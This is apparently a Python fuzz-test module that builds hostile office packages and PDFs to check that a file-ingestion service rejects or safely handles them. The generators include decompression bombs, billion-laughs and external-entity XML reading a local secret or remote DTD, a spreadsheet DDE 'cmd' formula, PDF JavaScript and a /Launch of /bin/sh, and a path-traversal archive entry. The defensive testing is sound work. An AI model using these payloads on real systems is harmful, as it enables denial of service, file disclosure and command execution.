"""Hostile files that are packages or PDFs: bombs, entities, links outwards, formulas, macros, scripts, false sizes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

import openpyxl

from tests.fuzz.scene import SENTENCE, HostileFile, Scene, containing

MEGABYTE = 1_000_000
BOMB = 1_100 * MEGABYTE
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CORNERS = f"""<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1"><v>1</v></c></row>
<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>"""
LAUGHS = '<!ENTITY e0 "ha">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))


def packed(parts: Mapping[str, bytes]) -> bytes:
    """A package of parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def unpacked(package: bytes) -> dict[str, bytes]:
    """The parts of a package."""
    source = zipfile.ZipFile(io.BytesIO(package))
    return {name: source.read(name) for name in source.namelist()}


def workbook(*rows: tuple[object, ...]) -> bytes:
    """A workbook of one sheet."""
    book = openpyxl.Workbook()
    for row in rows or (("指标", "2023年"), ("产值(亿元)", 5)):
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def word(document: str, more: Mapping[str, str] | None = None) -> bytes:
    """A Word document with this XML as its body."""
    types = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
    rels = f"""<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Target="word/document.xml"
 Type="{OFFICE}/officeDocument"/></Relationships>"""
    parts = {"[Content_Types].xml": types, "_rels/.rels": rels, "word/document.xml": document, **(more or {})}
    return packed({name: content.encode() for name, content in parts.items()})


def paragraph(words: str, declaration: str = "") -> str:
    """The XML of a Word document with one paragraph."""
    return (
        f'{declaration}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )


def strings(words: str, declaration: str) -> bytes:
    """A workbook whose shared strings begin with a document type."""
    xml = f'{declaration}<sst xmlns="{MAIN}"><si><t>{words}</t></si><si><t>2023年</t></si></sst>'
    return packed({**unpacked(workbook(("指标", "2023年"))), STRINGS: xml.encode()})


def sheet_of(words: str, declaration: str) -> bytes:
    """An OpenDocument sheet whose content begins with a document type."""
    office = "urn:oasis:names:tc:opendocument:xmlns"
    xml = f"""{declaration}<office:document-content xmlns:office="{office}:office:1.0" xmlns:table="{office}:table:1.0"
 xmlns:text="{office}:text:1.0"><office:body><office:spreadsheet><table:table table:name="a"><table:table-row>
<table:table-cell office:value-type="string"><text:p>{words}</text:p></table:table-cell></table:table-row></table:table>
</office:spreadsheet></office:body></office:document-content>"""
    kind = b"application/vnd.oasis.opendocument.spreadsheet"
    return packed({"mimetype": kind, "content.xml": xml.encode()})


def secret(scene: Scene) -> str:
    return f'<!DOCTYPE d [<!ENTITY x SYSTEM "{scene.secret.as_uri()}">]>'


def remote(scene: Scene) -> str:
    return f'<!DOCTYPE d [<!ENTITY % x SYSTEM "http://{scene.address}/x.dtd"> %x;]>'


def template(scene: Scene) -> bytes:
    """A Word document that names a template elsewhere, and a picture."""
    links = "".join(
        f'<Relationship Id="r{number}" TargetMode="External" Target="http://{scene.address}/{kind}"'
        f' Type="{OFFICE}/{kind}"/>'
        for number, kind in enumerate(("attachedTemplate", "image", "frame", "oleObject"), 5)
    )
    rels = f'<Relationships xmlns="{RELATIONS}">{links}</Relationships>'
    return word(paragraph(SENTENCE), {"word/_rels/document.xml.rels": rels})


def formulas(scene: Scene) -> bytes:
    """A workbook of formulas that call, run and link."""
    url = f"http://{scene.address}/"
    rows = (
        ("指标", "2023年"),
        ("产值(亿元)", f'=WEBSERVICE("{url}")'),
        ("收入(亿元)", f"=cmd|'/C touch {scene.marker}'!A1"),
    )
    more = ("利润(亿元)", f'=HYPERLINK("{url}")'), ("税收(亿元)", f"='[{url}b.xlsx]a'!A1"), ("就业(万人)", 5)
    return workbook(*rows, *more)


def outward_links(scene: Scene) -> bytes:
    """A workbook with a link to another one, a connection, and a macro."""
    link = f"""<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{OFFICE}" r:id="r1"/></externalLink>"""
    rels = f"""<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" TargetMode="External"
 Target="http://{scene.address}/b.xlsx" Type="{OFFICE}/externalLinkPath"/></Relationships>"""
    connection = f"""<connections xmlns="{MAIN}"><connection id="1" name="c" type="4" refreshOnLoad="1"><webPr
 url="http://{scene.address}/"/></connection></connections>"""
    return packed(
        {
            **unpacked(workbook()),
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode(),
            "xl/connections.xml": connection.encode(),
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
        }
    )


def bomb(name: str, part: str, around: bytes, content: bytes = b" ") -> HostileFile:
    """A package of which one part unpacks to more than a gigabyte."""

    def put(path: Path, scene: Scene) -> None:
        block = content * (MEGABYTE // len(content))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for other, kept in (unpacked(around) if around else {}).items():
                if other != part:
                    archive.writestr(other, kept)
            with archive.open(part, "w", force_zip64=True) as member:
                for _ in range(scene.many(BOMB) // MEGABYTE + 2):
                    member.write(block)

    return HostileFile(name, put, "rejected", "JJJ_UNPACKED_MEGABYTES")


def understated(scene: Scene) -> bytes:
    """A workbook whose sheet unpacks to far more than its package says."""
    rows = b"<row><c><v>1</v></c></row>" * (scene.many(BOMB // 2) // 26 + 1)
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode() + rows + b"</sheetData></worksheet>"
    package = packed({**unpacked(workbook()), SHEET: sheet})
    stated = struct.pack("<I", len(sheet) & 0xFFFFFFFF)
    return package.replace(stated, struct.pack("<I", 1000))


def nested(scene: Scene) -> bytes:
    """An archive in an archive, ten deep, around a bomb."""
    content = packed({"a.csv": b"1," * (scene.many(100 * MEGABYTE) // 2)})
    for _ in range(10):
        content = packed({"a.zip": content})
    return content


def overlapping(scene: Scene) -> bytes:
    """An archive whose directory names one part thousands of times."""
    package = packed({"a.csv": b"1," * (scene.many(20 * MEGABYTE) // 2 + 1)})
    end = package.rindex(b"PK\x05\x06")
    start = package.index(b"PK\x01\x02")
    count = 5000
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, (end - start) * count, start, 0)
    return package[:start] + package[start:end] * count + tail


def many_members(scene: Scene) -> bytes:
    return packed({f"{number}.csv": b"" for number in range(scene.many(200_000) + 2)})


def deep_word(scene: Scene) -> bytes:
    count = scene.many(100_000)
    return word(f'<w:document xmlns:w="{WORD}"><w:body>{"<w:sdt>" * count}{"</w:sdt>" * count}</w:body></w:document>')


def objects(*bodies: bytes) -> bytes:
    """A PDF of objects, numbered from 1; the first is its catalog."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(bodies) + 1
    return data + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
        % (size, rows, size, len(data))
    )


def stream(content: bytes) -> bytes:
    return b"<</Length %d/Filter/FlateDecode>>stream\n%b\nendstream" % (len(content), content)


FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>"


def scripted_pdf(scene: Scene) -> bytes:
    """A PDF that runs a script, launches a program and fetches an address when it is opened."""
    script = f"app.launchURL('http://{scene.address}/'); this.submitForm('http://{scene.address}/');".encode()
    launch = b"<</S/Launch/F(/bin/sh)/P(-c 'touch %b')>>" % bytes(scene.marker)
    fetch = f"<</S/URI/URI(http://{scene.address}/)>>".encode()
    words = zlib.compress(b"BT /F 12 Tf 72 700 Td (Value added of the sample city: 12345.6 in the year 2023.) Tj ET")
    catalog = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(%b)>>/AA<</WC %b/O %b>>>>" % (
        script,
        launch,
        fetch,
    )
    return objects(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE, FONT, stream(words))


def pdf_bomb(scene: Scene) -> bytes:
    """A PDF whose page unpacks to more than a gigabyte."""
    squeezer = zlib.compressobj()
    packed_words = squeezer.compress(b"BT /F 12 Tf 72 700 Td (12345.6) Tj ET\n")
    for _ in range(scene.many(BOMB) // MEGABYTE + 1):
        packed_words += squeezer.compress(b"BT (1234567 ) Tj ET " * 50_000)
    packed_words += squeezer.flush()
    pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, PAGE, FONT, stream(packed_words))


def many_pages(scene: Scene) -> bytes:
    count = scene.many(3100) + 10
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    pages = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, *[b"<</Type/Page/Parent 2 0 R>>"] * count)


def endless_pages(_: Scene) -> bytes:
    """A PDF whose tree of pages holds itself and says that it has two thousand million."""
    pages = b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2000000000/Parent 2 0 R>>"
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", pages, PAGE, FONT, stream(zlib.compress(b"")))


QUADRATIC = f'<!DOCTYPE d [<!ENTITY x "{"增" * 50_000}">]>'
HOSTILE_PACKAGES: tuple[HostileFile, ...] = (
    bomb("bomb.zip", "a.csv", b"", b"1,"),
    bomb("bomb.xlsx", SHEET, workbook()),
    bomb("bomb.docx", "word/document.xml", word(paragraph(SENTENCE))),
    HostileFile("understated bomb.xlsx", containing(understated), "rejected"),
    HostileFile("archives in archives.zip", containing(nested), "rejected"),
    HostileFile("overlapping parts.zip", containing(overlapping), "rejected", "JJJ_UNPACKED_MEGABYTES"),
    HostileFile("many parts.zip", containing(many_members), "rejected"),
    HostileFile("climbing part.zip", containing(lambda _: packed({"../../../evil.csv": b"a,2023\nb,5\n"})), "either"),
    HostileFile("laughs.docx", containing(lambda _: word(paragraph("&e9;", f"<!DOCTYPE d [{LAUGHS}]>"))), "rejected"),
    HostileFile("laughs.xlsx", containing(lambda _: strings("&e9;", f"<!DOCTYPE d [{LAUGHS}]>")), "either"),
    HostileFile("laughs.ods", containing(lambda _: sheet_of("&e9;", f"<!DOCTYPE d [{LAUGHS}]>")), "either"),
    HostileFile("quadratic.docx", containing(lambda s: word(paragraph("&x;" * s.many(50_000), QUADRATIC))), "either"),
    HostileFile("external entity.docx", containing(lambda s: word(paragraph(f"{SENTENCE}&x;", secret(s)))), "either"),
    HostileFile("external entity.xlsx", containing(lambda s: strings("&x;", secret(s))), "either"),
    HostileFile("external entity.ods", containing(lambda s: sheet_of("&x;", secret(s))), "either"),
    HostileFile("remote entity.docx", containing(lambda s: word(paragraph(SENTENCE, remote(s)))), "either"),
    HostileFile("remote template.docx", containing(template), "accepted"),
    HostileFile("deep.docx", containing(deep_word), "rejected"),
    HostileFile("formulas.xlsx", containing(formulas), "accepted"),
    HostileFile("links and macros.xlsm", containing(outward_links), "accepted"),
    HostileFile(
        "far corners.xlsx",
        containing(lambda _: packed({**unpacked(workbook()), SHEET: CORNERS.encode()})),
        "rejected",
        "JJJ_READING_MEGABYTES",
    ),
    HostileFile("workbook.csv", containing(lambda _: workbook()), "accepted"),
    HostileFile("scripts.pdf", containing(scripted_pdf), "accepted"),
    HostileFile("bomb.pdf", containing(pdf_bomb), "either"),
    HostileFile("many pages.pdf", containing(many_pages), "rejected", "JJJ_REPORT_PAGES"),
    HostileFile("endless pages.pdf", containing(endless_pages), "rejected"),
)
